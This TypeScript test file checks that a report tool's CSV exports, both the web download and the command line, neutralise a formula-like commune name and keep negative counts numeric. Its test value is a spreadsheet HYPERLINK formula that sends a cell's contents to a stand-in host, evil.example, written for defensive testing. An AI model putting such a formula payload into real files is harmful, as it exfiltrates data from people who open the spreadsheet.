/**
 * The progress CSV (web download and `baophu progress`) neutralises text that a spreadsheet would run as a formula
 * (here a commune name), and keeps numbers numeric — a negative net change since January stays a negative number.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { FastifyInstance } from 'fastify';
import Papa from 'papaparse';
import { createTestDatabase, envFor, type TestDatabase } from '../helpers/db.ts';
import { testApp, addUser, login, type TestClient } from '../helpers/app.ts';
import { runCli } from '../helpers/cli.ts';
import { addNguoi, addDanCu } from './seed.ts';

const COMMUNE = '05443';
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Phường Phan Đình Phùng")';
let database: TestDatabase;
let app: FastifyInstance;
let admin: TestClient;

beforeAll(async () => {
  database = await createTestDatabase();
  const ids = ['019085000001', '019085000002', '019085000003'];
  await addDanCu(database, ids.map((person_id) => ({ person_id, commune_code: COMMUNE })));
  // Three participants in January, one left by August: the net change since January is negative.
  await addNguoi(database, '2026-08-01', [
    { person_id: ids[0], scheme: 'BB', from: '2025-01-01' },
    { person_id: ids[1], scheme: 'BB', from: '2025-01-01', to: '2026-03-01' },
    { person_id: ids[2], scheme: 'TN', from: '2025-06-01', to: '2026-02-01' },
  ]);
  await database.pool.query('UPDATE commune SET name = $1 WHERE code = $2', [HOSTILE_NAME, COMMUNE]);
  app = await testApp(database);
  await addUser(database, 'admin1', 'admin');
  admin = await login(app, 'admin1');
});
afterAll(async () => {
  await app.close();
  await database.destroy();
});

/** The column names of the command line's CSV, and of the web's (Vietnamese, for people). */
const CLI_COLUMNS = { code: 'commune_code', name: 'commune_name', active: 'active_total', netNew: 'net_new_since_january' };
const WEB_COLUMNS = { code: 'Mã xã', name: 'Xã/phường', active: 'Số người tham gia', netNew: 'Tăng từ đầu năm' };

function expectNeutralised(csv: string, columns: typeof CLI_COLUMNS) {
  const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  for (const row of parsed.data) for (const [column, cell] of Object.entries(row)) {
    if (column === columns.netNew || /^-?\d+([.,]\d+)?$/.test(cell)) continue; // numbers, checked below
    expect(cell, `${column}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
  }
  const mine = parsed.data.find((r) => r[columns.code] === COMMUNE)!;
  expect(mine[columns.name]).toBe(`'${HOSTILE_NAME}`);
  expect(mine[columns.active]).toBe('1');
  expect(mine[columns.netNew]).toBe('-2');
}

describe('progress CSV with a formula-like commune name', () => {
  it('neutralises it in the download and keeps a negative number numeric', async () => {
    const res = await admin.get('/api/progress/export?year=2026&format=csv');
    expect(res.status).toBe(200);
    expect(res.body.startsWith('\uFEFF')).toBe(true);
    expectNeutralised(res.body, WEB_COLUMNS);
  });

  it('neutralises it in `baophu progress --format csv`', () => {
    const r = runCli(['progress', '--year', '2026', '--format', 'csv'], envFor(database));
    expect(r.code, r.stderr).toBe(0);
    expectNeutralised(r.stdout, CLI_COLUMNS);
  });
});
